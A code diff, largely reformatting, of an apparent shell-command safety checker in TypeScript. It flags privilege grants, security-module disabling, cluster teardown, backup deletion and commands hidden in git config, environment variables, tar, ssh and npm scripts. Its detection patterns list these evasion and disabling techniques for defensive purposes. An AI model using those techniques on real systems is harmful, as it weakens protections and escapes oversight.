+      (p >= 0 ? args[p + 1]?.text : args.find((a) => !a.text.startsWith("-"))?.text) ??
+      (n === "clear-content" || n === "clc" ? piped() : undefined);
     if (path !== undefined) judgeOverwrite(ctx, path);
   } else if (n === "move-item" || n === "mi") {
     const path = pathOf() ?? piped();
@@ -2403,8 +3456,22 @@ export function producerListsInside(p: Producer | null | undefined, cwd: string,
   if (!p.args.every((a) => a.literal)) return false;
   if (p.name === "git" && ["ls-files", "diff", "status"].includes(args[0] ?? "")) return true;
   // Filters that only pick or reorder lines of their input (`ls -d ./releases/* | head -n -3`): what came before them.
-  if (/^(?:head|tail|sort|uniq|tac|shuf)$/.test(p.name) && !p.args.some((a) => !a.text.startsWith("-") && !/^\+?-?\d+$/.test(a.text) && !/^-[nck]$/.test(p.args[p.args.indexOf(a) - 1]?.text ?? ""))) return producerListsInside(p.before, cwd, root);
-  if (/^(?:grep|egrep|fgrep)$/.test(p.name) && args.filter((a) => !a.startsWith("-")).length === 1 && !args.some((a) => /^-[A-Za-z]*[lLcoe]|^-f$|^--file/.test(a))) return producerListsInside(p.before, cwd, root);
+  if (
+    /^(?:head|tail|sort|uniq|tac|shuf)$/.test(p.name) &&
+    !p.args.some(
+      (a) =>
+        !a.text.startsWith("-") &&
+        !/^\+?-?\d+$/.test(a.text) &&
+        !/^-[nck]$/.test(p.args[p.args.indexOf(a) - 1]?.text ?? ""),
+    )
+  )
+    return producerListsInside(p.before, cwd, root);
+  if (
+    /^(?:grep|egrep|fgrep)$/.test(p.name) &&
+    args.filter((a) => !a.startsWith("-")).length === 1 &&
+    !args.some((a) => /^-[A-Za-z]*[lLcoe]|^-f$|^--file/.test(a))
+  )
+    return producerListsInside(p.before, cwd, root);
   if (p.name === "find") {
     const roots = [];
     for (const a of args) {
@@ -2412,7 +3479,9 @@ export function producerListsInside(p: Producer | null | undefined, cwd: string,
       roots.push(a);
     }
     if (!roots.length) roots.push(".");
-    const filtered = args.some((t) => /^-(?:i?name|i?path|i?regex|newer\S*|[acm]time|[acm]min|size|empty|type)$/.test(t));
+    const filtered = args.some((t) =>
+      /^-(?:i?name|i?path|i?regex|newer\S*|[acm]time|[acm]min|size|empty|type)$/.test(t),
+    );
     return filtered && roots.every((r) => whereIn(ctx, r) === "inside");
   }
   if (p.name === "ls" || p.name === "echo" || p.name === "printf") {
@@ -2420,7 +3489,13 @@ export function producerListsInside(p: Producer | null | undefined, cwd: string,
     return ops.length > 0 && ops.every((o) => whereIn(ctx, o) === "inside" && !/^\.\/*$|^\*$/.test(o));
   }
   if (p.name === "grep" || p.name === "rg") {
-    return args.some((a) => /^-[A-Za-z]*l/.test(a)) && args.filter((a) => !a.startsWith("-")).slice(1).every((o) => whereIn(ctx, o) === "inside");
+    return (
+      args.some((a) => /^-[A-Za-z]*l/.test(a)) &&
+      args
+        .filter((a) => !a.startsWith("-"))
+        .slice(1)
+        .every((o) => whereIn(ctx, o) === "inside")
+    );
   }
   return false;
 }
@@ -2433,11 +3508,13 @@ const GIT_COMMAND_KEY =
   /^(?:core\.(?:pager|fsmonitor|sshcommand|editor|askpass)|sequence\.editor|diff\.external|(?:diff|merge|filter|difftool|mergetool|browser)\.[^=]+\.(?:command|textconv|driver|clean|smudge|process|cmd)|pager\.[\w-]+|credential(?:\.[^=]+)?\.helper|gpg(?:\.[\w-]+)?\.program|uploadpack\.packobjectshook|interactive\.difffilter|sendemail\.\w*cmd|alias\.[^=]+)$/i;
 
 /** Environment variables whose value a program runs as a command line (a pager, an editor, an ssh command). */
-const COMMAND_ENV = /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|SYSTEMD_PAGER|EDITOR|VISUAL|LESSOPEN|LESSCLOSE|RSYNC_RSH|PROMPT_COMMAND)$/;
+const COMMAND_ENV =
+  /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|SYSTEMD_PAGER|EDITOR|VISUAL|LESSOPEN|LESSCLOSE|RSYNC_RSH|PROMPT_COMMAND)$/;
 
 function gitConfigRuns(ctx: JudgeContext, key: string, value: string, global = false): void {
   // Pushes made to mirror (every ref forced, deleted refs deleted) or forced by a configured refspec (`+refs/heads/*:…`).
-  if (/^remote\.[^=]+\.mirror$/i.test(key) && /^(?:true|yes|on|1)$/i.test(value.trim())) return add(ctx, "git_force_push");
+  if (/^remote\.[^=]+\.mirror$/i.test(key) && /^(?:true|yes|on|1)$/i.test(value.trim()))
+    return add(ctx, "git_force_push");
   if (/^remote\.[^=]+\.push$/i.test(key) && /^\+/.test(value.trim())) {
     const dest = value.trim().slice(1).split(":").pop() ?? "";
     if (dest === "" || /[*$`]/.test(dest) || PROTECTED_BRANCH.test(dest)) return add(ctx, "git_force_push");
@@ -2462,9 +3539,15 @@ function exShell(ctx: JudgeContext, cmd: string): void {
   if (bang) return ctx.analyseShell(bang[1]!);
   const sys = /\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)/s.exec(c);
   if (sys) return ctx.analyseShell(sys[2]!);
-  if (/\b(?:system|systemlist|jobstart|termopen)\s*\(/.test(c) || /^exe(?:c(?:ute)?)?\b/.test(c)) return add(ctx, "inline_code_unanalysable");
+  if (/\b(?:system|systemlist|jobstart|termopen)\s*\(/.test(c) || /^exe(?:c(?:ute)?)?\b/.test(c))
+    return add(ctx, "inline_code_unanalysable");
   const lang = /^(py(?:thon)?3?|pyx|lua|perl|ruby?)\s+(.*)$/s.exec(c);
-  if (lang) analyseInlineCode(/^p(?:y|ython)/.test(lang[1]!) ? "python" : lang[1] === "lua" ? "lua" : lang[1] === "perl" ? "perl" : "ruby", lang[2]!, ctx);
+  if (lang)
+    analyseInlineCode(
+      /^p(?:y|ython)/.test(lang[1]!) ? "python" : lang[1] === "lua" ? "lua" : lang[1] === "perl" ? "perl" : "ruby",
+      lang[2]!,
+      ctx,
+    );
 }
 
 /** A sed script's `e` commands and `s///e` substitutions (their text runs as a shell command), and `w FILE` writes. */
@@ -2534,7 +3617,13 @@ function makeRecipes(text: string): string {
   const prefix = /^\.RECIPEPREFIX\s*[:+?]?=\s*(\S)/m.exec(text)?.[1] ?? "\t";
   const lines: string[] = [];
   for (const line of text.split("\n")) {
-    if (line.startsWith(prefix) && line.length > prefix.length) lines.push(line.slice(prefix.length).replace(/^\s*[@+-]+\s*/, "").replace(/\$\$/g, "$"));
+    if (line.startsWith(prefix) && line.length > prefix.length)
+      lines.push(
+        line
+          .slice(prefix.length)
+          .replace(/^\s*[@+-]+\s*/, "")
+          .replace(/\$\$/g, "$"),
+      );
     else {
       const inline = /^[^:#=\s.][^:=]*::?(?!=)[^;=]*;\s*(.+)$/.exec(line);
       if (inline) lines.push(inline[1]!.replace(/\$\$/g, "$"));
@@ -2543,15 +3632,27 @@ function makeRecipes(text: string): string {
   return lines.join("\n");
 }
 
-const NPM_BUILTIN = /^(?:access|adduser|audit|bugs|cache|ci|clean-install|completion|config|dedupe|deprecate|diff|dist-tag|docs|doctor|edit|exec|explain|explore|find-dupes|fund|help|hook|init|install|i|in|ins|inst|insta|instal|isntall|add|install-ci-test|install-test|link|ln|login|logout|ls|list|org|outdated|owner|pack|ping|pkg|prefix|profile|prune|publish|query|rebuild|rb|repo|restart|root|run|run-script|rum|urn|search|shrinkwrap|star|stars|start|stop|team|test|t|tst|token|uninstall|remove|rm|un|unlink|unpublish|unstar|update|up|upgrade|version|view|info|show|whoami|why|dlx|x|create|workspace|workspaces|set|get|import|node|env|store|patch|patch-commit|licenses|global|bin|plugin|constraints|dedup|npm|pm|outdated|check|autoclean|generate-lock-entry|tag|policies)$/;
+const NPM_BUILTIN =
+  /^(?:access|adduser|audit|bugs|cache|ci|clean-install|completion|config|dedupe|deprecate|diff|dist-tag|docs|doctor|edit|exec|explain|explore|find-dupes|fund|help|hook|init|install|i|in|ins|inst|insta|instal|isntall|add|install-ci-test|install-test|link|ln|login|logout|ls|list|org|outdated|owner|pack|ping|pkg|prefix|profile|prune|publish|query|rebuild|rb|repo|restart|root|run|run-script|rum|urn|search|shrinkwrap|star|stars|start|stop|team|test|t|tst|token|uninstall|remove|rm|un|unlink|unpublish|unstar|update|up|upgrade|version|view|info|show|whoami|why|dlx|x|create|workspace|workspaces|set|get|import|node|env|store|patch|patch-commit|licenses|global|bin|plugin|constraints|dedup|npm|pm|outdated|check|autoclean|generate-lock-entry|tag|policies)$/;
 
 /** The package.json scripts a package manager command runs: lifecycle hooks of an install, `run X` and its pre/post. */
 function packageScripts(name: string, words: string[]): string[] {
   const verb = words[0];
   const install = ["preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare"];
   if (verb === undefined) return name === "yarn" || name === "bun" ? (name === "bun" ? [] : install) : [];
-  if (/^(?:install|i|in|ins|inst|insta|instal|isntall|ci|clean-install|add|rebuild|rb|link|ln|install-test|install-ci-test)$/.test(verb)) return install;
-  const script = /^(?:run|run-script|rum|urn)$/.test(verb) ? words[1] : /^(?:test|t|tst|start|stop|restart)$/.test(verb) ? ({ t: "test", tst: "test" } as Record<string, string>)[verb] ?? verb : name !== "npm" && !NPM_BUILTIN.test(verb) ? verb : undefined;
+  if (
+    /^(?:install|i|in|ins|inst|insta|instal|isntall|ci|clean-install|add|rebuild|rb|link|ln|install-test|install-ci-test)$/.test(
+      verb,
+    )
+  )
+    return install;
+  const script = /^(?:run|run-script|rum|urn)$/.test(verb)
+    ? words[1]
+    : /^(?:test|t|tst|start|stop|restart)$/.test(verb)
+      ? (({ t: "test", tst: "test" } as Record<string, string>)[verb] ?? verb)
+      : name !== "npm" && !NPM_BUILTIN.test(verb)
+        ? verb
+        : undefined;
   return script ? [`pre${script}`, script, `post${script}`] : [];
 }
 
@@ -2580,7 +3681,9 @@ function optionValues(texts: string[], short: string[], long: string[], attached
 function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
   const args = ctx.args;
   const texts = args.map((a) => a.text);
-  for (const e of ctx.env ?? []) if (COMMAND_ENV.test(e.name) && e.value.trim()) ctx.analyseShell(e.value.replace(/^\|+-?/, "").replace(/%s/g, "_item_"));
+  for (const e of ctx.env ?? [])
+    if (COMMAND_ENV.test(e.name) && e.value.trim())
+      ctx.analyseShell(e.value.replace(/^\|+-?/, "").replace(/%s/g, "_item_"));
   const values = (short: string[], long: string[]): string[] => optionValues(texts, short, long, true);
   switch (name) {
     case "git": {
@@ -2599,7 +3702,13 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
             else if (!texts[j]!.startsWith("-")) ops.push(texts[j]!);
           }
           if (ops[0] === "set") ops.shift();
-          if (ops.length >= 2) gitConfigRuns(ctx, ops[0]!, ops[1]!, texts.some((x) => x === "--global" || x === "--system"));
+          if (ops.length >= 2)
+            gitConfigRuns(
+              ctx,
+              ops[0]!,
+              ops[1]!,
+              texts.some((x) => x === "--global" || x === "--system"),
+            );
           break;
         }
       }
@@ -2608,14 +3717,26 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
     case "tar":
     case "bsdtar":
     case "gtar":
-      for (const v of values(["-I", "-F"], ["--to-command", "--use-compress-program", "--info-script", "--new-volume-script", "--rsh-command"])) ctx.analyseShell(v);
+      for (const v of values(
+        ["-I", "-F"],
+        ["--to-command", "--use-compress-program", "--info-script", "--new-volume-script", "--rsh-command"],
+      ))
+        ctx.analyseShell(v);
       // `--to-command=sh`: each member's content is piped into the command; a shell or interpreter reading its program
       // from stdin runs the archive's files as code.
       for (const v of values([], ["--to-command"])) {
         const [prog = "", ...rest] = v.trim().split(/\s+/);
         const base = posix.basename(prog);
         const lang = SHELLS.has(base) ? "shell" : interpreterLanguage(base);
-        if (lang && readsProgramFromStdin(base, rest.map((t) => ({ text: t, literal: true })), lang)) add(ctx, "shell_input");
+        if (
+          lang &&
+          readsProgramFromStdin(
+            base,
+            rest.map((t) => ({ text: t, literal: true })),
+            lang,
+          )
+        )
+          add(ctx, "shell_input");
       }
       for (const v of values([], ["--checkpoint-action"])) {
         const m = /^exec=(.*)$/s.exec(v);
@@ -2625,11 +3746,15 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
     case "zip": {
       for (const v of values(["-TT"], ["--unzip-command"])) ctx.analyseShell(v);
       const texts = ctx.args.map((a) => a.text);
-      if (texts.some((x) => /^-[a-zA-Z0-9]*m|^--move$/.test(x) && !x.startsWith("--") || x === "--move")) {
-        const words = texts.filter((x, k) => !x.startsWith("-") && !/^(?:-b|-n|-t|-tt|-O|--out|-P|--password|-Z|-s)$/.test(texts[k - 1] ?? ""));
+      if (texts.some((x) => (/^-[a-zA-Z0-9]*m|^--move$/.test(x) && !x.startsWith("--")) || x === "--move")) {
+        const words = texts.filter(
+          (x, k) => !x.startsWith("-") && !/^(?:-b|-n|-t|-tt|-O|--out|-P|--password|-Z|-s)$/.test(texts[k - 1] ?? ""),
+        );
         const stop = texts.findIndex((x) => /^-(?:x|i|-exclude|-include)$/.test(x));
         const sources = (stop >= 0 ? words.filter((x) => texts.indexOf(x) < stop) : words).slice(1);
-        const recursive = texts.some((x) => /^-[a-zA-Z0-9]*r|^--recurse-paths$/.test(x) && !x.startsWith("--") || x === "--recurse-paths");
+        const recursive = texts.some(
+          (x) => (/^-[a-zA-Z0-9]*r|^--recurse-paths$/.test(x) && !x.startsWith("--")) || x === "--recurse-paths",
+        );
         for (const src of sources) judgeDelete(ctx, src, recursive);
       }
       return;
@@ -2645,7 +3770,8 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
     case "autossh":
     case "sshfs":
       for (const v of values(["-o"], [])) {
-        const m = /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)\s*[=\s]\s*(.*)$/is.exec(v) ?? /^ssh_command=(.*)$/s.exec(v);
+        const m =
+          /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)\s*[=\s]\s*(.*)$/is.exec(v) ?? /^ssh_command=(.*)$/s.exec(v);
         if (m && !/^none$/i.test(m[1]!.trim())) ctx.analyseShell(m[1]!.replace(/%[hprnCdilLu%]/g, "x"));
       }
       return;
@@ -2657,13 +3783,19 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
     case "gvim":
     case "vimdiff":
       for (const v of values(["-c"], ["--cmd"])) exShell(ctx, v);
-      for (let k = 0; k < texts.length; k++) if (/^-[A-Za-z]+c$/.test(texts[k]!) && texts[k + 1] !== undefined) exShell(ctx, texts[k + 1]!); // ex -sc CMD
+      for (let k = 0; k < texts.length; k++)
+        if (/^-[A-Za-z]+c$/.test(texts[k]!) && texts[k + 1] !== undefined) exShell(ctx, texts[k + 1]!); // ex -sc CMD
       for (const t of texts) if (/^\+./.test(t) && !/^\+\d+$/.test(t)) exShell(ctx, t.slice(1));
       return;
     case "sed":
     case "gsed": {
       const exprs = values(["-e"], ["--expression"]);
-      const scripts = exprs.length || values(["-f"], ["--file"]).length ? exprs : operands(args, "ef", ["--expression", "--file", "--line-length", "-l"]).slice(0, 1).map((o) => o.text);
+      const scripts =
+        exprs.length || values(["-f"], ["--file"]).length
+          ? exprs
+          : operands(args, "ef", ["--expression", "--file", "--line-length", "-l"])
+              .slice(0, 1)
+              .map((o) => o.text);
       for (const s of scripts) sedShell(ctx, s);
       return;
     }
@@ -2683,7 +3815,10 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
           const here = ctx.redirects.find((r) => r.body !== undefined);
           if (here) text = here.literal ? here.body! : null;
           else if (ctx.producer) text = producedLiteral(ctx.producer);
-        } else text = writtenScript(ctx, f) ?? (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
+        } else
+          text =
+            writtenScript(ctx, f) ??
+            (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
         if (text === undefined) continue;
         if (text === null) add(ctx, "shell_input");
         else ctx.analyseShell(makeRecipes(text));
@@ -2697,18 +3832,21 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
     case "bun": {
       // `npm pkg set scripts.preinstall=…`, `npm set-script x …`: a script planted in package.json runs on the next
       // install or run; its text is judged as a command.
-      if (sub(args)[0] === "pkg" && sub(args)[1] === "set") for (const x of sub(args).slice(2)) {
-        const m = /^scripts\.[\w:.-]+=(.*)$/s.exec(x);
-        if (m && m[1]!.trim()) ctx.analyseShell(m[1]!);
-      }
+      if (sub(args)[0] === "pkg" && sub(args)[1] === "set")
+        for (const x of sub(args).slice(2)) {
+          const m = /^scripts\.[\w:.-]+=(.*)$/s.exec(x);
+          if (m && m[1]!.trim()) ctx.analyseShell(m[1]!);
+        }
       if (sub(args)[0] === "set-script" && sub(args)[2]) ctx.analyseShell(sub(args)[2]!);
-      const pj = writtenScript(ctx, "package.json") ?? (ctx.root ? writtenScript(ctx, posix.join(ctx.root, "package.json")) : undefined);
+      const pj =
+        writtenScript(ctx, "package.json") ??
+        (ctx.root ? writtenScript(ctx, posix.join(ctx.root, "package.json")) : undefined);
       if (pj === undefined) return;
       const hooks = packageScripts(name, sub(args));
       if (!hooks.length) return;
       let scripts: Record<string, unknown> | undefined;
       try {
-        scripts = pj === null ? undefined : (JSON.parse(pj) as { scripts?: Record<string, unknown> }).scripts ?? {};
+        scripts = pj === null ? undefined : ((JSON.parse(pj) as { scripts?: Record<string, unknown> }).scripts ?? {});
       } catch {
         scripts = undefined;
       }
@@ -2723,7 +3861,9 @@ function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
     const mod = m >= 0 ? texts[m + 1] : texts.find((t) => /^-m./.test(t))?.slice(2);
     const after = m >= 0 ? args.slice(m + 2) : args.slice(texts.findIndex((t) => /^-m./.test(t)) + 1);
     if (mod === "pdb") {
-      for (let k = 0; k < after.length; k++) if ((after[k]!.text === "-c" || after[k]!.text === "--command") && after[k + 1]) analyseInlineCode("python", after[++k]!.text.replace(/^!/, ""), ctx, after[k]!.literal);
+      for (let k = 0; k < after.length; k++)
+        if ((after[k]!.text === "-c" || after[k]!.text === "--command") && after[k + 1])
+          analyseInlineCode("python", after[++k]!.text.replace(/^!/, ""), ctx, after[k]!.literal);
     }
     // `python3 -m tarfile -e ARCHIVE [DIR]`, `-m zipfile -e ARCHIVE DIR`: extraction into DIR.
     if (mod === "tarfile" || mod === "zipfile") {
@@ -2767,7 +3907,10 @@ const SYSTEM_UNIT =
 
 /** A value of 0 for one of the options (`--desired-count 0`, `--num-nodes=0`). */
 function zeroOption(texts: string[], opts: string[]): boolean {
-  return texts.some((t, k) => (opts.includes(t) && /^0+$/.test(texts[k + 1] ?? "")) || opts.some((o) => t === `${o}=0`)) || texts.some((t) => /(?:^|,)(?:desiredSize|maxSize|DesiredCapacity|MaxSize)=0(?:,|$)/.test(t));
+  return (
+    texts.some((t, k) => (opts.includes(t) && /^0+$/.test(texts[k + 1] ?? "")) || opts.some((o) => t === `${o}=0`)) ||
+    texts.some((t) => /(?:^|,)(?:desiredSize|maxSize|DesiredCapacity|MaxSize)=0(?:,|$)/.test(t))
+  );
 }
 
 function judgeByEffect(ctx: JudgeContext, name: string): void {
@@ -2780,35 +3923,68 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
     case "aws": {
       const [svc, op = ""] = words;
       // Scaling a group, service or node group to zero stops everything it runs.
-      if (zeroOption(texts, ["--desired-capacity", "--desired-count", "--max-size", "--max-capacity"])) return add(ctx, "cluster_teardown");
-      if (svc === "iam" && /^(?:attach-(?:user|role|group)-policy|put-(?:user|role|group)-policy|add-user-to-group|create-access-key|create-login-profile|update-login-profile|update-assume-role-policy|create-policy-version|set-default-policy-version)$/.test(op)) return add(ctx, "privilege_grant");
-      if (svc === "sso-admin" && /^(?:create-account-assignment|attach-managed-policy-to-permission-set|put-inline-policy-to-permission-set)$/.test(op)) return add(ctx, "privilege_grant");
+      if (zeroOption(texts, ["--desired-capacity", "--desired-count", "--max-size", "--max-capacity"]))
+        return add(ctx, "cluster_teardown");
+      if (
+        svc === "iam" &&
+        /^(?:attach-(?:user|role|group)-policy|put-(?:user|role|group)-policy|add-user-to-group|create-access-key|create-login-profile|update-login-profile|update-assume-role-policy|create-policy-version|set-default-policy-version)$/.test(
+          op,
+        )
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        svc === "sso-admin" &&
+        /^(?:create-account-assignment|attach-managed-policy-to-permission-set|put-inline-policy-to-permission-set)$/.test(
+          op,
+        )
+      )
+        return add(ctx, "privilege_grant");
       return;
     }
     case "gcloud":
-      if (zeroOption(texts, ["--num-nodes", "--size", "--max-nodes", "--max-instances", "--replicas"]) && words.some((w) => /^(?:resize|update|set-autoscaling|scale)$/.test(w))) return add(ctx, "cluster_teardown");
-      if (words.some((w) => w === "add-iam-policy-binding" || w === "set-iam-policy")) return add(ctx, "privilege_grant");
+      if (
+        zeroOption(texts, ["--num-nodes", "--size", "--max-nodes", "--max-instances", "--replicas"]) &&
+        words.some((w) => /^(?:resize|update|set-autoscaling|scale)$/.test(w))
+      )
+        return add(ctx, "cluster_teardown");
+      if (words.some((w) => w === "add-iam-policy-binding" || w === "set-iam-policy"))
+        return add(ctx, "privilege_grant");
       if (words[0] === "auth" && words.includes("revoke")) return add(ctx, "credential_write");
       return;
     case "az":
-      if (zeroOption(texts, ["--new-capacity", "--node-count", "--count", "--max-count", "--instance-count"]) && words.some((w) => w === "scale" || w === "update")) return add(ctx, "cluster_teardown");
+      if (
+        zeroOption(texts, ["--new-capacity", "--node-count", "--count", "--max-count", "--instance-count"]) &&
+        words.some((w) => w === "scale" || w === "update")
+      )
+        return add(ctx, "cluster_teardown");
       if (words[0] === "role" && words[1] === "assignment" && words[2] === "create") return add(ctx, "privilege_grant");
-      if (words[0] === "logout" || (words[0] === "account" && words[1] === "clear")) return add(ctx, "credential_write");
+      if (words[0] === "logout" || (words[0] === "account" && words[1] === "clear"))
+        return add(ctx, "credential_write");
       return;
     case "doctl":
     case "hcloud":
     case "linode-cli":
     case "eksctl":
     case "oci":
-      if (zeroOption(texts, ["--count", "--size", "--nodes", "--nodes-max", "--node-count", "--desired-capacity"]) && words.some((w) => /^(?:update|scale|resize|change-type)$/.test(w))) return add(ctx, "cluster_teardown");
+      if (
+        zeroOption(texts, ["--count", "--size", "--nodes", "--nodes-max", "--node-count", "--desired-capacity"]) &&
+        words.some((w) => /^(?:update|scale|resize|change-type)$/.test(w))
+      )
+        return add(ctx, "cluster_teardown");
       return;
     case "kubectl":
     case "oc":
-      if (words[0] === "create" && /^(?:clusterrolebinding|rolebinding)$/.test(words[1] ?? "") && all.some((a) => /(?:^|=)cluster-admin$|^--clusterrole=(?:admin|cluster-admin)$/.test(a))) return add(ctx, "privilege_grant");
+      if (
+        words[0] === "create" &&
+        /^(?:clusterrolebinding|rolebinding)$/.test(words[1] ?? "") &&
+        all.some((a) => /(?:^|=)cluster-admin$|^--clusterrole=(?:admin|cluster-admin)$/.test(a))
+      )
+        return add(ctx, "privilege_grant");
       return;
     // GitOps and backup tools: deleting an application deletes what it deployed; deleting backups loses them.
     case "argocd":
-      if (words.some((w) => /^(?:delete|rm|remove)$/.test(w)) && words[0] !== "account") return add(ctx, "cluster_teardown");
+      if (words.some((w) => /^(?:delete|rm|remove)$/.test(w)) && words[0] !== "account")
+        return add(ctx, "cluster_teardown");
       return;
     case "flux":
       if (words[0] === "uninstall" || words[0] === "delete") return add(ctx, "cluster_teardown");
@@ -2817,11 +3993,18 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
     case "restic":
     case "borg":
     case "kopia":
-      if (name === "velero" && words.some((w) => w === "delete") && words[0] !== "plugin") return add(ctx, "volume_destroy");
-      if ((name === "restic" && (words.includes("forget") || words.includes("prune")) && !has("--dry-run", "-n")) || (name === "borg" && /^(?:delete|prune|compact|recreate)$/.test(words[0] ?? "") && !has("--dry-run", "-n")) || (name === "kopia" && words.includes("delete"))) return add(ctx, "volume_destroy");
+      if (name === "velero" && words.some((w) => w === "delete") && words[0] !== "plugin")
+        return add(ctx, "volume_destroy");
+      if (
+        (name === "restic" && (words.includes("forget") || words.includes("prune")) && !has("--dry-run", "-n")) ||
+        (name === "borg" && /^(?:delete|prune|compact|recreate)$/.test(words[0] ?? "") && !has("--dry-run", "-n")) ||
+        (name === "kopia" && words.includes("delete"))
+      )
+        return add(ctx, "volume_destroy");
       return;
     case "snapper":
-      if (words.some((w) => /^(?:delete|rm|remove|cleanup|undochange|rollback|delete-config)$/.test(w))) return add(ctx, "volume_destroy");
+      if (words.some((w) => /^(?:delete|rm|remove|cleanup|undochange|rollback|delete-config)$/.test(w)))
+        return add(ctx, "volume_destroy");
       return;
     case "timeshift":
       if (has("--delete", "--delete-all", "--restore")) return add(ctx, "volume_destroy");
@@ -2834,10 +4017,15 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
     case "podman":
     case "ctr":
       // `rmi -f $(… images -q)`: every image (or container) the listing names.
-      if (/^(?:rm|rmi|kill|stop)$/.test(words.find((w) => !/^(?:container|image|images)$/.test(w)) ?? "") && texts.some((t) => /\$\(|`/.test(t))) return add(ctx, "container_mass_delete");
+      if (
+        /^(?:rm|rmi|kill|stop)$/.test(words.find((w) => !/^(?:container|image|images)$/.test(w)) ?? "") &&
+        texts.some((t) => /\$\(|`/.test(t))
+      )
+        return add(ctx, "container_mass_delete");
       return;
     case "setcap":
-      if (!has("-v", "--verify") && operands(args).some((o) => /[+=][eip]*[ep]/i.test(o.text) && !/^-r$/.test(o.text))) return add(ctx, "privilege_grant");
+      if (!has("-v", "--verify") && operands(args).some((o) => /[+=][eip]*[ep]/i.test(o.text) && !/^-r$/.test(o.text)))
+        return add(ctx, "privilege_grant");
       return;
     // Security modules: disabling or loosening AppArmor or SELinux, Secure Boot validation, kernel lockdown.
     case "aa-disable":
@@ -2853,19 +4041,65 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
     case "chcon":
     case "restorecon":
     case "semanage":
-      if (name === "semodule" && !has("-r", "--remove", "-d", "--disable", "-i", "--install", "-X", "-DB", "-B", "-D")) return;
-      if (name === "semanage" && !words.some((w) => /^(?:permissive|boolean|fcontext|port|login|user|module)$/.test(w)) ) return;
+      if (name === "semodule" && !has("-r", "--remove", "-d", "--disable", "-i", "--install", "-X", "-DB", "-B", "-D"))
+        return;
+      if (name === "semanage" && !words.some((w) => /^(?:permissive|boolean|fcontext|port|login|user|module)$/.test(w)))
+        return;
       if (name === "semanage" && !has("-a", "--add", "-m", "--modify", "-d", "--delete", "-D", "--deleteall")) return;
-      if ((name === "chcon" || name === "restorecon") && operands(args, "turlh", ["--user", "--role", "--type", "--range", "--reference"]).every((o) => isInsideLike(whereIn(ctx, o.text)))) return;
+      if (
+        (name === "chcon" || name === "restorecon") &&
+        operands(args, "turlh", ["--user", "--role", "--type", "--range", "--reference"]).every((o) =>
+          isInsideLike(whereIn(ctx, o.text)),
+        )
+      )
+        return;
       if (name === "restorecon" && has("-n")) return;
       if (name === "setenforce" && !/^(?:0|permissive)$/i.test(words[0] ?? "")) return;
       return add(ctx, "security_change");
     case "mokutil":
-      if (has("--disable-validation", "--enable-validation", "--import", "--delete", "--reset", "--set-verbosity", "--ignore-db", "--use-db", "--revoke-import", "--sbat-policy", "--trust-mok", "--untrust-mok", "--timeout", "--set-sbat-policy")) add(ctx, "security_change");
+      if (
+        has(
+          "--disable-validation",
+          "--enable-validation",
+          "--import",
+          "--delete",
+          "--reset",
+          "--set-verbosity",
+          "--ignore-db",
+          "--use-db",
+          "--revoke-import",
+          "--sbat-policy",
+          "--trust-mok",
+          "--untrust-mok",
+          "--timeout",
+          "--set-sbat-policy",
+        )
+      )
+        add(ctx, "security_change");
       return;
     case "grubby":
-      if (all.some((a) => /\b(?:selinux=0|enforcing=0|apparmor=0|security=none|lockdown=none|module\.sig_enforce=0|mitigations=off)\b/.test(a))) return add(ctx, "security_change");
-      if (has("--args", "--remove-args", "--set-default", "--set-default-index", "--add-kernel", "--remove-kernel", "--update-kernel", "--make-default", "--copy-default")) add(ctx, "boot_config");
+      if (
+        all.some((a) =>
+          /\b(?:selinux=0|enforcing=0|apparmor=0|security=none|lockdown=none|module\.sig_enforce=0|mitigations=off)\b/.test(
+            a,
+          ),
+        )
+      )
+        return add(ctx, "security_change");
+      if (
+        has(
+          "--args",
+          "--remove-args",
+          "--set-default",
+          "--set-default-index",
+          "--add-kernel",
+          "--remove-kernel",
+          "--update-kernel",
+          "--make-default",
+          "--copy-default",
+        )
+      )
+        add(ctx, "boot_config");
       return;
     case "update-crypto-policies":
       if (has("--set")) add(ctx, "security_change");
@@ -2874,16 +4108,24 @@ function judgeByEffect(ctx: JudgeContext, name: string): void {
     case "systemctl": {
       const verb = words[0] ?? "";
       const units = words.slice(1);
-      if (/^(?:enable|reenable|link|add-wants|add-requires|preset|unmask)$/.test(verb)) return add(ctx, units.some((u) => /\.timer$/.test(u)) ? "schedule_job" : "service_change");
+      if (/^(?:enable|reenable|link|add-wants|add-requires|preset|unmask)$/.test(verb))
+        return add(ctx, units.some((u) => /\.timer$/.test(u)) ? "schedule_job" : "service_change");
       if (/^(?:start|restart)$/.test(verb) && units.some((u) => /\.timer$/.test(u))) return add(ctx, "schedule_job");
-      if (/^(?:restart|reload|try-restart|reload-or-restart|try-reload-or-restart|condrestart|force-reload|daemon-reexec|switch-root)$/.test(verb) && (verb === "daemon-reexec" || units.some((u) => SYSTEM_UNIT.test(u)))) return add(ctx, "service_change");
+      if (
